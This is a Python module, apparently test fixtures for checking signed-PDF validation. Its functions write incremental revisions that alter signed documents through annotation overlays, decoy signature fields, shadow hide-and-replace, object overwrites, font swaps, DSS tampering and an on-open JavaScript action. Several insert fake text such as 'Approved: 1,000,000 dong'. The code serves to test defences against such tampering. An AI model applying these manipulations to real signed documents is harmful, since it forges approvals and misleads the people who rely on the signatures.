"""Changes written as one more revision after the signatures: what a PDF editor could do."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

Writer = IncrementalPdfFileWriter
EVIL = b"BT /F1 24 Tf 60 700 Td (Approved: 1,000,000 dong) Tj ET"


def page(writer: Writer, number: int = 0) -> Any:
    return writer.root["/Pages"]["/Kids"][number]


def touch(writer: Writer, item: Any) -> None:
    writer.update_container(item)


def overwrite(writer: Writer, reference: Any, item: Any) -> None:
    """Another object under a number that was taken when the file was signed."""
    writer.objects[(reference.generation, reference.idnum)] = item


def signature_field(writer: Writer) -> Any:
    """The first one that is signed."""
    fields = [each.get_object() for each in writer.root["/AcroForm"]["/Fields"]]
    return next(each for each in fields if each.get("/FT") == "/Sig" and "/V" in each)


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(str(each)) for each in values])


def picture(writer: Writer, content: bytes = b"1 g 0 0 595 842 re f " + EVIL) -> Any:
    """A form that paints over the whole page."""
    attributes = {
        name("/Type"): name("/XObject"),
        name("/Subtype"): name("/Form"),
        name("/BBox"): numbers(0, 0, 595, 842),
    }
    return writer.add_object(generic.StreamObject(attributes, stream_data=content))


def annotation(writer: Writer, kind: str, **entries: Any) -> Any:
    look = generic.DictionaryObject({name("/N"): picture(writer)})
    items = {
        name("/Type"): name("/Annot"),
        name("/Subtype"): name(kind),
        name("/AP"): look,
        name("/F"): generic.NumberObject(4),
    }
    items |= {name(f"/{key}"): value for key, value in entries.items()}
    return writer.add_object(generic.DictionaryObject(items))


def evil_annotation(writer: Writer) -> None:
    """EAA: a free text over the page, in the colours of the page."""
    note = annotation(
        writer, "/FreeText", Rect=numbers(0, 0, 595, 842), Contents=generic.pdf_string("1,000,000")
    )
    page(writer)["/Annots"].append(note)
    touch(writer, page(writer)["/Annots"])


def evil_stamp_on_the_page_without_notes(writer: Writer) -> None:
    second = page(writer, 1)
    second[name("/Annots")] = generic.ArrayObject(
        [annotation(writer, "/Stamp", Rect=numbers(0, 0, 595, 842))]
    )
    touch(writer, second)


def an_old_note_says_something_else(writer: Writer) -> None:
    note = page(writer)["/Annots"][1]
    note[name("/Contents")] = generic.pdf_string("rejected")
    note[name("/Rect")] = numbers(0, 0, 595, 842)
    touch(writer, note)


def an_old_note_gets_a_covering_look(writer: Writer) -> None:
    note = page(writer)["/Annots"][1]
    note[name("/AP")] = generic.DictionaryObject({name("/N"): picture(writer)})
    touch(writer, note)


def a_note_is_taken_away(writer: Writer) -> None:
    del page(writer)["/Annots"][1]
    touch(writer, page(writer)["/Annots"])


def a_link_is_laid_over_the_page(writer: Writer) -> None:
    action = generic.DictionaryObject(
        {name("/S"): name("/URI"), name("/URI"): generic.pdf_string("https://evil.example")}
    )
    page(writer)["/Annots"].append(annotation(writer, "/Link", Rect=numbers(0, 0, 595, 842), A=action))
    touch(writer, page(writer)["/Annots"])


def _empty_field(writer: Writer, place: Any, *, kids: bool = False) -> None:
    """SSA: a signature field that nobody signs, whose picture covers the page."""
    look = generic.DictionaryObject({name("/N"): picture(writer)})
    widget = {
        name("/Type"): name("/Annot"),
        name("/Subtype"): name("/Widget"),
        name("/F"): generic.NumberObject(4),
    }
    widget |= {
        name("/AP"): look,
        name("/Rect"): place,
        name("/P"): generic.IndirectObject(*_reference(page(writer)), writer),
    }
    field: dict[Any, Any] = {name("/FT"): name("/Sig"), name("/T"): generic.pdf_string("Approval")}
    if kids:
        kid = writer.add_object(generic.DictionaryObject(widget))
        field[name("/Kids")] = generic.ArrayObject([kid])
        shown = kid
        added = writer.add_object(generic.DictionaryObject(field))
    else:
        shown = added = writer.add_object(generic.DictionaryObject(field | widget))
    writer.root["/AcroForm"]["/Fields"].append(added)
    touch(writer, writer.root["/AcroForm"]["/Fields"])
    page(writer)["/Annots"].append(shown)
    touch(writer, page(writer)["/Annots"])


def _reference(item: Any) -> tuple[int, int]:
    found = item.container_ref
    return found.idnum, found.generation


def an_empty_signature_field_covers_the_page(writer: Writer) -> None:
    _empty_field(writer, numbers(0, 0, 595, 842))


def an_empty_signature_field_at_a_veiled_place(writer: Writer) -> None:
    """Its rectangle holds references instead of numbers: some take it for invisible, viewers do not."""
    edge = [writer.add_object(each) for each in numbers(0, 0, 595, 842)]
    _empty_field(writer, generic.ArrayObject(edge))


def an_empty_signature_field_shows_by_its_kid(writer: Writer) -> None:
    _empty_field(writer, numbers(0, 0, 595, 842), kids=True)


def a_field_is_filled_in(writer: Writer) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/V")] = generic.pdf_string("1,000,000")
    field[name("/AP")] = generic.DictionaryObject({name("/N"): picture(writer, b"BT (1,000,000) Tj ET")})
    touch(writer, field)


def a_field_keeps_its_value_and_looks_otherwise(writer: Writer) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/AP")] = generic.DictionaryObject({name("/N"): picture(writer, b"BT (1,000,000) Tj ET")})
    touch(writer, field)


def a_field_is_moved_over_the_text(writer: Writer) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/Rect")] = numbers(60, 690, 360, 730)
    touch(writer, field)


def a_field_is_hidden_by_its_flags(writer: Writer) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/F")] = generic.NumberObject(2)
    touch(writer, field)


def a_field_is_added(writer: Writer) -> None:
    widget = annotation(
        writer,
        "/Widget",
        Rect=numbers(60, 690, 360, 730),
        FT=name("/Tx"),
        T=generic.pdf_string("sum"),
        V=generic.pdf_string("1,000,000"),
    )
    writer.root["/AcroForm"]["/Fields"].append(widget)
    touch(writer, writer.root["/AcroForm"]["/Fields"])
    page(writer)["/Annots"].append(widget)
    touch(writer, page(writer)["/Annots"])


def viewers_are_told_to_draw_the_fields_anew(writer: Writer) -> None:
    writer.root["/AcroForm"][name("/NeedAppearances")] = generic.BooleanObject(True)
    touch(writer, writer.root["/AcroForm"])


def a_signature_field_is_taken_away(writer: Writer) -> None:
    fields = writer.root["/AcroForm"]["/Fields"]
    del fields[1]
    touch(writer, fields)


def a_page_is_added(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    new = {
        name("/Type"): name("/Page"),
        name("/MediaBox"): numbers(0, 0, 595, 842),
        name("/Contents"): writer.add_object(generic.StreamObject(stream_data=EVIL)),
    }
    new |= {
        name("/Parent"): writer.root.raw_get("/Pages"),
        name("/Resources"): page(writer).raw_get("/Resources"),
    }
    pages["/Kids"].append(writer.add_object(generic.DictionaryObject(new)))
    pages[name("/Count")] = generic.NumberObject(3)
    touch(writer, pages)


def a_page_is_replaced(writer: Writer) -> None:
    page(writer)[name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=EVIL))
    touch(writer, page(writer))


def the_contents_of_a_page_are_overwritten(writer: Writer) -> None:
    """The page itself stays as it was; the stream it names is another one."""
    reference = page(writer).raw_get("/Contents")
    overwrite(writer, reference, generic.StreamObject(stream_data=EVIL))


def a_page_is_removed(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    del pages["/Kids"][1]
    pages[name("/Count")] = generic.NumberObject(1)
    touch(writer, pages)


def pages_change_places(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    first, second = pages["/Kids"].raw_get(0), pages["/Kids"].raw_get(1)
    pages[name("/Kids")] = generic.ArrayObject([second, first])
    touch(writer, pages)


def a_page_is_turned(writer: Writer) -> None:
    page(writer)[name("/Rotate")] = generic.NumberObject(180)
    touch(writer, page(writer))


def a_page_is_cropped(writer: Writer) -> None:
    page(writer)[name("/CropBox")] = numbers(0, 0, 595, 400)
    touch(writer, page(writer))


def shadow_hide(writer: Writer) -> None:
    """The cover that lay over the sum when it was signed becomes nothing."""
    cover = page(writer)["/Resources"]["/XObject"].raw_get("/Cover")
    overwrite(writer, cover, generic.StreamObject(_form(), stream_data=b""))


def shadow_hide_by_another_type(writer: Writer) -> None:
    cover = page(writer)["/Resources"]["/XObject"].raw_get("/Cover")
    overwrite(writer, cover, generic.NullObject())


def _form() -> dict[Any, Any]:
    return {
        name("/Type"): name("/XObject"),
        name("/Subtype"): name("/Form"),
        name("/BBox"): numbers(0, 0, 595, 842),
    }


def shadow_replace_the_font(writer: Writer) -> None:
    """Every sign of the text is drawn as another one: the text's bytes stay."""
    font = page(writer)["/Resources"]["/Font"].raw_get("/F1")
    items = {
        name("/Type"): name("/Font"),
        name("/Subtype"): name("/Type1"),
        name("/BaseFont"): name("/Symbol"),
    }
    overwrite(writer, font, generic.DictionaryObject(items))


def shadow_hide_and_replace(writer: Writer) -> None:
    """The catalog that was signed in hiding becomes the catalog."""
    hidden = writer.root["/PieceInfo"]["/Hidden"]
    root = writer.root
    root[name("/Pages")] = hidden.raw_get("/Pages")
    writer.update_root()


def the_resources_are_exchanged(writer: Writer) -> None:
    resources = generic.DictionaryObject(page(writer)["/Resources"])
    resources[name("/XObject")] = generic.DictionaryObject({name("/Cover"): picture(writer)})
    page(writer)[name("/Resources")] = writer.add_object(resources)
    touch(writer, page(writer))


def a_script_runs_on_opening(writer: Writer) -> None:
    action = {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert(1)")}
    writer.root[name("/OpenAction")] = generic.DictionaryObject(action)
    writer.update_root()


def layers_are_added_to_hide_the_text(writer: Writer) -> None:
    layer = writer.add_object(
        generic.DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): generic.pdf_string("x")})
    )
    state = generic.DictionaryObject({name("/OFF"): generic.ArrayObject([layer])})
    writer.root[name("/OCProperties")] = generic.DictionaryObject(
        {name("/OCGs"): generic.ArrayObject([layer]), name("/D"): state}
    )
    writer.update_root()


def a_dynamic_form_is_added(writer: Writer) -> None:
    writer.root["/AcroForm"][name("/XFA")] = writer.add_object(generic.StreamObject(stream_data=b"<xdp/>"))
    touch(writer, writer.root["/AcroForm"])


def a_signature_is_referenced_twice(writer: Writer) -> None:
    """A second field shows the same signature."""
    signed = signature_field(writer)
    append_signature_field(writer, SigFieldSpec("Second", box=(300, 300, 400, 340)))
    field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
    field[name("/V")] = signed.raw_get("/V")
    touch(writer, field)


def a_signature_object_is_overwritten(writer: Writer) -> None:
    """USF: the reason in the signature dictionary changes, everything else stays."""
    signature = signature_field(writer)["/V"]
    signature[name("/Reason")] = generic.pdf_string("for 1,000,000")
    writer.mark_update(signature.container_ref)


def the_answers_are_exchanged(writer: Writer) -> None:
    """DSS tampering: the stored answers become others."""
    store = writer.root["/DSS"]
    store["/OCSPs"][0] = writer.add_object(generic.StreamObject(stream_data=b"\x30\x03\x0a\x01\x00"))
    touch(writer, store["/OCSPs"])


def the_answers_are_removed(writer: Writer) -> None:
    del writer.root["/DSS"]
    writer.update_root()


ATTACKS: dict[str, Callable[[Writer], None]] = {
    each.__name__: each
    for each in (
        evil_annotation,
        evil_stamp_on_the_page_without_notes,
        an_old_note_says_something_else,
        an_old_note_gets_a_covering_look,
        a_note_is_taken_away,
        a_link_is_laid_over_the_page,
        an_empty_signature_field_covers_the_page,
        an_empty_signature_field_at_a_veiled_place,
        an_empty_signature_field_shows_by_its_kid,
        a_field_is_filled_in,
        a_field_keeps_its_value_and_looks_otherwise,
        a_field_is_moved_over_the_text,
        a_field_is_hidden_by_its_flags,
        a_field_is_added,
        viewers_are_told_to_draw_the_fields_anew,
        a_signature_field_is_taken_away,
        a_page_is_added,
        a_page_is_replaced,
        the_contents_of_a_page_are_overwritten,
        a_page_is_removed,
        pages_change_places,
        a_page_is_turned,
        a_page_is_cropped,
        shadow_hide,
        shadow_hide_by_another_type,
        shadow_replace_the_font,
        shadow_hide_and_replace,
        the_resources_are_exchanged,
        a_script_runs_on_opening,
        layers_are_added_to_hide_the_text,
        a_dynamic_form_is_added,
        a_signature_is_referenced_twice,
        a_signature_object_is_overwritten,
        the_answers_are_exchanged,
        the_answers_are_removed,
    )
}
